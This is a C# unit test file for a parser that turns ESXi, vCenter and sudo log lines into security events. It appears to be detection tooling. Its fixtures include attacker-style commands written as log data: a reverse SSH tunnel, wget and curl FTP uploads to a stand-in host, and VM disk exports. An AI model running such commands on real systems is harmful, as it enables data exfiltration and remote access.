using System.Text;
using Det0131.Datasets.Readers;
using Det0131.Datasets.Readers.ESXi;
using Det0131.Models.Events;

namespace Det0131.Datasets.Tests.Readers.ESXi;

/// <summary>Real lines from Fixtures/ESXi; other lines written after the formats named in the parsers' comments.</summary>
public sealed class EsxiParserTests
{
    private const string Head8 = "2024-06-04T21:53:35.264Z In(166) Hostd[1050265]: [Originator@6876 sub=Vimsvc.ha-eventmgr opID=c4c9 sid=52018116 user=vpxuser:CORP\\Ann] ";

    private static string[] Lines(string name) => File.ReadAllLines(Path.Combine(AppContext.BaseDirectory, "Fixtures", "ESXi", name));

    // Real session of an intruder, as documented line by line at its source: SSH on, administrators' group changed, files into and out of guests.
    [Fact]
    public void Parse_RealHostd_FindsWhatMattersAndNothingElse()
    {
        CollectingSink sink = CollectingSink.Read(EsxiFormat.Format, "hostd.log", Lines("hostd.log"));

        Assert.Empty(sink.Rejected);
        Assert.Equal(["hostd-enable-ssh", "hostd-set-option", "hostd", "hostd"], sink.Events.Select(e => e.Process));
        SecurityEvent option = sink.Events[1];
        Assert.Equal((EventKind.ProcessStart, "hostd", "root", UserClass.System), (option.Kind, option.Parent, option.User, option.UserClass));
        Assert.Contains("esxAdminsGroup", option.CommandLine, StringComparison.Ordinal);

        // The path of the file is on the next line; a path of a file going in is not taken for it.
        Assert.Equal([EventKind.FileAccess, EventKind.FileAccess], sink.Events[2..].Select(e => e.Kind));
        Assert.Equal(["<SOURCE_FULL_PATH>", @"C:\Users\vagrant\AppData\Local\Temp\powerclivmware151"], sink.Events[2..].Select(e => e.FilePath));
        Assert.Equal([11L, 15L], sink.Events[2..].Select(e => e.Line));
        Assert.Equal(2, sink.Held);
        Assert.Contains("login", sink.Ignored);
    }

    [Fact]
    public void Parse_RealShell_GivesEachCommand()
    {
        CollectingSink sink = CollectingSink.Read(EsxiFormat.Format, "shell.log", Lines("shell.log"));

        Assert.Equal(["vim-cmd", "esxcli", "esxcli", "esxcli", "vim-cmd"], sink.Events.Select(e => e.Process));
        Assert.All(sink.Events, e => Assert.Equal(("shell", "root", EventKind.ProcessStart, Platform.ESXi), (e.Parent, e.User, e.Kind, e.Platform)));
        Assert.Equal("vim-cmd vmsvc/snapshot.create $vm_id", sink.Events[^1].CommandLine);
    }

    [Fact]
    public void Parse_RealAuth_MovesNoData()
    {
        CollectingSink sink = CollectingSink.Read(EsxiFormat.Format, "auth.log", Lines("auth.log"));

        Assert.Empty(sink.Events);
        Assert.Equal(["ssh message", "ssh message", "ssh message", "login", "ssh message"], sink.Ignored);
    }

    [Theory]
    [InlineData("[root]: /bin/scp -f /vmfs/volumes/ds/x.vmdk", "scp", "root", UserClass.System, Outcome.Unknown)]
    [InlineData("[CORP\\Ann]: A=1 nohup ssh -fN -R 8443:localhost:443 u@192.0.2.1", "ssh", "corp\\ann", UserClass.Person, Outcome.Unknown)]
    [InlineData("[dcui]: busybox wget http://192.0.2.1/x", "wget", "dcui", UserClass.Service, Outcome.Unknown)]
    [InlineData("[shell.cmd@6876 subject=\"root\" object=\"shell\" command=\"openssl s_client -quiet\" result=\"success\" status=\"0\"]", "openssl", "root", UserClass.System, Outcome.Success)]
    [InlineData("[shell.cmd@6876 subject=\"root\" object=\"shell\" command=\"ls \\\"a b\\\"; cat\" result=\"failure\" status=\"1\"]", "ls", "root", UserClass.System, Outcome.Failure)]
    [InlineData("[root]: A=1", null, "root", UserClass.System, Outcome.Unknown)]
    public void Parse_ShellCommand_NamesToolUserAndOutcome(string message, string? tool, string user, UserClass userClass, Outcome outcome)
    {
        SecurityEvent started = Assert.Single(Read("2024-06-04T21:53:35.264Z In(14) shell[7]: " + message).Events);

        Assert.Equal((tool, user, userClass, outcome), (started.Process, started.User, started.UserClass, started.Outcome));
    }

    [Theory]
    [InlineData("Event 9 : File download from path '[datastore1] vm/vm-flat.VMDK' was initiated from 'VMware-client/8.0@192.0.2.9' and completed with status 'Success'")]
    [InlineData("File download from path '[datastore1] vm/vm-flat.VMDK' was initiated from 'VMware-client/8.0@192.0.2.9'")]
    public void Parse_DatastoreDownload_LeavesForTheClient(string message)
    {
        SecurityEvent sent = Assert.Single(Read(Head8 + message).Events);

        Assert.Equal(EventKind.FileAccess, sent.Kind);
        Assert.Equal(("[datastore1] vm/vm-flat.VMDK", ".vmdk", "192.0.2.9", "VMware-client/8.0"), (sent.FilePath, sent.FileExtension, sent.DestinationAddress, sent.UserAgent));
        Assert.Equal((HostSide.Source, "https", "hostd", "corp\\ann", UserClass.Person), (sent.HostSide, sent.Application, sent.Process, sent.User, sent.UserClass));
        Assert.Null(sent.SourceBytes);
    }

    [Fact]
    public void Parse_VcenterEvent_TakesItsUserFromTheSixthBracket()
    {
        SecurityEvent sent = Assert.Single(Read(
            @"<14>1 2022-09-01T06:06:19.084018+02:00 vc01 vpxd 24962 - - Event [51] [1-1] [2022-09-01T04:05:55.57103Z] [vim.event.EventEx] [info] [CORP\Bob] [DC] [51] [File download from path '[ds] a.vmdk' was initiated from 'x@192.0.2.9' and completed with status 'Success']").Events);

        Assert.Equal((@"corp\bob", "vpxd", "vc01", "[ds] a.vmdk"), (sent.User, sent.Process, sent.Host, sent.FilePath));
    }

    [Theory]
    [InlineData("[VpxLRO] -- BEGIN lro-47 -- vm-12 -- vim.VirtualMachine.exportVm -- 52bb5d24", "hostd-export-vm")]
    [InlineData("Task Created : haTask-12-vim.VirtualMachine.exportVm-8642", "hostd-export-vm")]
    [InlineData("Task Created : haTask-ha-host-vim.host.FirewallSystem.enableRuleset-8642", "hostd-firewall")]
    [InlineData("Task Created : haTask-ha-host-vim.host.DatastoreSystem.createNasDatastore-1", "hostd-mount-nfs")]
    [InlineData("Event 129 : SSH access has been enabled.", "hostd-enable-ssh")]
    [InlineData("Event 3 : Firewall configuration has changed. Operation 'enable' for rule set httpClient succeeded.", "hostd-firewall")]
    [InlineData("Set called with key 'Syslog.global.logHost' value '\"tcp://192.0.2.1\"'", "hostd-set-loghost")]
    public void Parse_ChangesThatOpenTheWay_AreCommandsOfHostd(string message, string command)
    {
        SecurityEvent started = Assert.Single(Read(Head8 + message).Events);

        Assert.Equal((EventKind.ProcessStart, command, "hostd", "corp\\ann"), (started.Kind, started.Process, started.Parent, started.User));
        Assert.EndsWith(started.CommandLine!, message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("Event 99 : User root@192.0.2.10 logged in as Mozilla/5.0", "login")]
    [InlineData("[VpxLRO] -- BEGIN lro-47 -- vpxa -- vpxapi.VpxaService.fetchQuickStats -- 52bb5d24", "other message")]
    [InlineData("Event 9 : File upload to path '[ds] x' was initiated from 'x@192.0.2.9'", "file upload")]
    [InlineData("Event 9 : Guest operation Initiate File Transfer To Guest performed on Virtual machine x.", "file upload")]
    [InlineData("Guest File Path is /x", "guest file path")]
    [InlineData("Connected to localhost:8307 (/sdk) over <io_obj p:0x0, h:24, <TCP '127.0.0.1 : 29013'>, <TCP '127.0.0.1 : 8307'>>", "loopback connection")]
    public void Parse_OtherMessages_AreIgnored(string message, string reason) => Assert.Equal([reason], Read(Head8 + message).Ignored);

    // Two transfers, the first without a path line: nothing is lost and no path goes to the wrong one.
    [Fact]
    public void Parse_GuestTransferWithoutPath_IsGivenAtTheNextOne()
    {
        const string Transfer = "Event 1 : Guest operation Initiate File Transfer From Guest performed on Virtual machine x.";
        CollectingSink sink = Read(Head8 + Transfer, Head8 + Transfer, Head8 + "Guest File Path is /b", Head8 + Transfer);

        Assert.Equal([null, "/b", null], sink.Events.Select(e => e.FilePath));
        Assert.Equal([1L, 2L, 4L], sink.Events.Select(e => e.Line));
        Assert.Equal(3, sink.Events.Select(e => e.Identity).Distinct().Count());
    }

    [Theory]
    [InlineData("'192.0.2.8 : 443'", "'198.51.100.4 : 39664'", HostSide.Destination, "198.51.100.4", "192.0.2.8", 443)]
    [InlineData("'192.0.2.8 : 50122'", "'198.51.100.4 : 21'", HostSide.Source, "192.0.2.8", "198.51.100.4", 21)]
    [InlineData("'[2001:db8::8]:50122'", "'[2001:db8::4]:443'", HostSide.Source, "2001:db8::8", "2001:db8::4", 443)]
    public void Parse_SocketsInAMessage_GiveAFlow(string own, string peer, HostSide side, string source, string destination, int port)
    {
        SecurityEvent seen = Assert.Single(Read(
            $"2024-06-04T21:53:35.264Z info vpxa[21] [Originator@6876 sub=IO.Connection] Failed to shutdown socket; <io_obj p:0x0, h:23, <TCP {own}>, <TCP {peer}>>, e: 104(x)").Events);

        Assert.Equal((EventKind.NetworkFlow, side, source, destination, port, "vpxa"),
            (seen.Kind, seen.HostSide, seen.SourceAddress, seen.DestinationAddress, seen.DestinationPort, seen.Process));
    }

    [Theory]
    [InlineData("cpu3:67 opID=a)NFS: 157: Command: (mount) Server: (nas) IP: (192.0.2.5) Path: (/x) Label: (ds) Options: (None)", "192.0.2.5", 2049, "nfs")]
    [InlineData("cpu3:67)iscsi_vmk: connection 4:0 (iqn.2010-06.com.x:y if=default addr=192.0.2.9:3260 (TPGT:1 ISID:0x1) has recovered", "192.0.2.9", 3260, null)]
    public void Parse_KernelMessageWithAPeer_GivesAFlow(string message, string address, int port, string? application)
    {
        SecurityEvent seen = Assert.Single(Read("2024-06-04T21:53:35.264Z In(182) vmkernel: " + message).Events);

        Assert.Equal((address, port, application, "vmkernel", HostSide.Source), (seen.DestinationAddress, seen.DestinationPort, seen.Application, seen.Process, seen.HostSide));
    }

    [Fact]
    public void Parse_SftpSession_GivesEachFileSentWithItsBytes()
    {
        const string Head = "2024-06-04T21:53:35.264Z In(38) sftp-server[77]: ";
        CollectingSink sink = Read(
            Head + "session opened for local user root from [192.0.2.9]",
            Head + "open \"/vmfs/volumes/ds/x.vmdk\" flags READ mode 0666",
            Head + "close \"/vmfs/volumes/ds/x.vmdk\" bytes read 4294967296 written 0",
            Head + "close \"/tmp/in\" bytes read 0 written 12",
            Head + "session closed for local user root from [192.0.2.9]",
            Head + "close \"/a\" bytes read 5 written 0",
            Head + "close \"/a\" bytes read 99999999999999999999 written 0");

        Assert.Equal(2, sink.Events.Count);
        SecurityEvent sent = sink.Events[0];
        Assert.Equal(("/vmfs/volumes/ds/x.vmdk", ".vmdk", 4294967296L, 0L), (sent.FilePath, sent.FileExtension, sent.SourceBytes, sent.DestinationBytes));
        Assert.Equal(("192.0.2.9", "root", "sftp-server", "ssh", HostSide.Source), (sent.DestinationAddress, sent.User, sent.Process, sent.Application, sent.HostSide));
        Assert.Null(sink.Events[1].DestinationAddress);
        Assert.Equal(["sftp byte counts not numbers"], sink.Rejected);
        Assert.Equal(["login", "sftp message", "file upload", "logout"], sink.Ignored);
    }

    [Fact]
    public void Parse_EnvoyRequest_GivesBothByteCountsAndTheFile()
    {
        SecurityEvent asked = Assert.Single(Read(
            "2023-05-11T10:22:31.126Z In(166) envoy-access[2099]: 2023-05-11T10:22:31.070Z GET /folder/vm/x-flat.vmdk?dcPath=ha-datacenter&dsName=ds HTTP/1.1 200 via_upstream - 0 4294967296 1 0 0 198.51.100.4:54080 192.0.2.8:443 127.0.0.1:49192 127.0.0.1:8309").Events);

        Assert.Equal((EventKind.HttpRequest, "GET", "/folder/vm/x-flat.vmdk", ".vmdk", 0L, 4294967296L),
            (asked.Kind, asked.HttpMethod, asked.FilePath, asked.FileExtension, asked.SourceBytes, asked.DestinationBytes));
        Assert.Equal(("198.51.100.4", 54080, "192.0.2.8", 443, HostSide.Destination, Outcome.Success),
            (asked.SourceAddress, asked.SourcePort, asked.DestinationAddress, asked.DestinationPort, asked.HostSide, asked.Outcome));
        Assert.Equal(1_683_800_551_070_000, asked.TimeMicros);
    }

    [Fact]
    public void Parse_Sudo_GivesTheCommandAndTheChangeOfUser()
    {
        SecurityEvent started = Assert.Single(Read(
            "<85>1 2025-03-21T16:29:34.821636+01:00 vc01 sudo - - -  ann : PWD=/ ; USER=root ; COMMAND=/usr/bin/Curl -T x ftp://192.0.2.1").Events);

        Assert.Equal(("curl", "sudo", "ann", "ann>root", "/usr/bin/Curl -T x ftp://192.0.2.1"),
            (started.Process, started.Parent, started.User, started.PrivilegeChange, started.CommandLine));
    }

    [Fact]
    public void Parse_DamagedLines_AreEachAccountedForOnce()
    {
        string[] others =
        [
            Head8 + "File download from path '[datastore1] vm/vm-flat.VMDK' was initiated from 'VMware-client/8.0@192.0.2.9'",
            "2024-06-04T21:53:35.264Z In(38) sftp-server[77]: close \"/vmfs/volumes/ds/x.vmdk\" bytes read 4294967296 written 0",
            "<110>2022-11-04T15:25:46.186Z ESXI shell[12]: [shell.cmd@6876 subject=\"root\" object=\"shell\" command=\"ls\" result=\"success\" status=\"0\"]",
            "2023-05-11T10:22:31.126Z info envoy[1] [Originator@6876 sub=Default] 2023-05-11T10:22:31.070Z POST /sdk HTTP/1.1 200 via_upstream - 1670 11032 1 0 0 198.51.100.4:54080 192.0.2.8:443",
            "2024-06-04T21:53:35.264Z In(182) vmkernel: cpu3:67)iscsi_vmk: addr=192.0.2.9:3260 (TPGT:1",
            "<85>1 2025-03-21T16:29:34.821636+01:00 vc01 sudo - - -  ann : PWD=/ ; USER=root ; COMMAND=/usr/bin/curl",
        ];
        Damage.Check(EsxiFormat.Format, [.. Lines("hostd.log").Concat(Lines("shell.log")).Concat(others).Select(Encoding.UTF8.GetBytes)], rounds: 20_000);
    }

    [Theory]
    [InlineData(Head8 + "Event 99 : User root@192.0.2.10 logged in as Mozilla/5.0", 0)]
    [InlineData("2024-06-04T21:53:35.264Z In(38) sftp-server[77]: close \"/vmfs/volumes/ds/x.vmdk\" bytes read 4294967296 written 0", 1)]
    [InlineData("2024-06-04T21:53:35.264Z In(182) vmkernel: cpu3:67)iscsi_vmk: addr=192.0.2.9:3260 (TPGT:1", 1)]
    public void Parse_LinesAgainAndAgain_AllocateNothing(string line, int events) =>
        Damage.CheckAllocation(EsxiFormat.Format, Encoding.UTF8.GetBytes(line), events);

    [Theory]
    [InlineData("hostd.log", "x", 95)]
    [InlineData("shell.log", "x", 95)]
    [InlineData("auth.log", "x", 95)]
    public void Detect_RealFiles_AreRecognised(string fixture, string file, int confidence) =>
        Assert.Equal(confidence, EsxiFormat.Format.Detect(Encoding.UTF8.GetBytes(string.Join("\n", Lines(fixture))), file).Confidence);

    [Theory]
    [InlineData("2024-06-04T21:53:35.264Z shell[7]: [root]: ls", 80)]
    [InlineData("<182>2016-09-14T14:14:25.234Z esx1 vmkernel: cpu0:33011)x", 85)]
    [InlineData("2024-06-04T21:53:35.264Z sshd[7]: Connection from 192.0.2.1 port 1", 40)]
    [InlineData("2024-06-04T21:53:35.264Z web1 sshd[7]: Connection from 192.0.2.1 port 1", 0)]
    [InlineData("Oct 21 06:22:33 web1 sshd[4778]: Accepted password for root from 192.0.2.1 port 45182 ssh2", 0)]
    [InlineData("type=SYSCALL msg=audit(1364481363.243:24287): arch=c000003e", 0)]
    [InlineData("{\"a\":1}", 0)]
    [InlineData("", 0)]
    public void Detect_OneLine_IsSureOnlyOfItsOwn(string line, int confidence) =>
        Assert.Equal(confidence, EsxiFormat.Format.Detect(Encoding.UTF8.GetBytes(line), "x.log").Confidence);

    private static CollectingSink Read(params string[] lines) => CollectingSink.Read(EsxiFormat.Format, "x.log", lines);
}
